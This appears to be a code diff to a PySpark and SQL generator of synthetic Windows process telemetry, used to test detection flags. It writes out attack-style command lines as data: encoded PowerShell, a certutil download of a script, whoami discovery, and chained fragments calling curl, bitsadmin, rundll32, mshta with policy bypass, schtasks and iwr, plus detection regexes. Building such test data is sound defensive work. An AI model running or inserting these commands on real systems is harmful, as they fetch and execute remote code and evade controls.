@@ -30,13 +30,21 @@ def telemetry(spark: SparkSession, sf_dir: str) -> DataFrame:
             out = out.when(kind == i, value)
         return out
 
+    # Each flag that no other shape sets is set for one event type.
+    tools = (
+        F.when(F.col("event_type") == "click", "& Curl -O x.zip")
+        .when(F.col("event_type") == "error", "& bitsadmin /transfer")
+        .when(F.col("event_type") == "purchase", "; WMIC process | rundll32 x.dll")
+        .when(F.col("event_type") == "signup", "&& mshta y.hta -ep ByPass")
+        .otherwise("; schtasks /create ; iwr -useb")
+    )
     images = ["powershell.exe", "cmd.exe", "certutil.exe", "reg.exe", "svchost.exe", "explorer.exe"]
     command = by_kind(
         F.concat(F.lit("powershell.exe -enc "), F.md5(text), F.md5(F.concat(text, F.lit("x")))),
         F.concat(F.lit("cmd.exe /c whoami | findstr "), user),
         F.concat(F.lit("certutil -urlcache -f http://h"), user, F.lit("/a.ps1 a.ps1")),
         F.concat(F.lit("reg.exe  add HKLM /v "), F.col("event_type")),
-        F.concat(F.lit("SVCHOST.EXE -k netsvcs -p "), user),
+        F.concat(F.lit("SVCHOST.EXE -k netsvcs -p "), user, F.lit(" "), tools),
         F.lit(None).cast("string"),
     )
     suspicious = kind.isin(0, 2)
@@ -87,7 +95,9 @@ SELECT event_id AS row_id, user_id,
     WHEN 1 THEN concat('cmd.exe /c whoami | findstr ', user_id)
     WHEN 2 THEN concat('certutil -urlcache -f http://h', user_id, '/a.ps1 a.ps1')
     WHEN 3 THEN concat('reg.exe  add HKLM /v ', event_type)
-    WHEN 4 THEN concat('SVCHOST.EXE -k netsvcs -p ', user_id) END AS "CommandLine",
+    WHEN 4 THEN concat('SVCHOST.EXE -k netsvcs -p ', user_id, ' ', CASE event_type WHEN 'click' THEN '& Curl -O x.zip'
+      WHEN 'error' THEN '& bitsadmin /transfer' WHEN 'purchase' THEN '; WMIC process | rundll32 x.dll'
+      WHEN 'signup' THEN '&& mshta y.hta -ep ByPass' ELSE '; schtasks /create ; iwr -useb' END) END AS "CommandLine",
   CASE WHEN event_type <> 'view' THEN concat('C:', chr(92), 'Windows', chr(92), 'explorer.exe') END AS "ParentImage",
   CAST(event_id AS VARCHAR) AS "ProcessId",
   CASE event_type WHEN 'purchase' THEN 'discovery' WHEN 'click' THEN ' ' END AS "_attack_technique",
@@ -102,7 +112,7 @@ SELECT event_id AS row_id, user_id,
 FROM events
 """
 
-# Patterns of the twins, written independently as case-insensitive searches.
+# The patterns that define the flags, as case-insensitive searches.
 FLAG_PATTERNS = {
     "has_powershell": "(?i)powershell",
     "has_encodedcommand": "(?i)-enc(odedcommand)?",
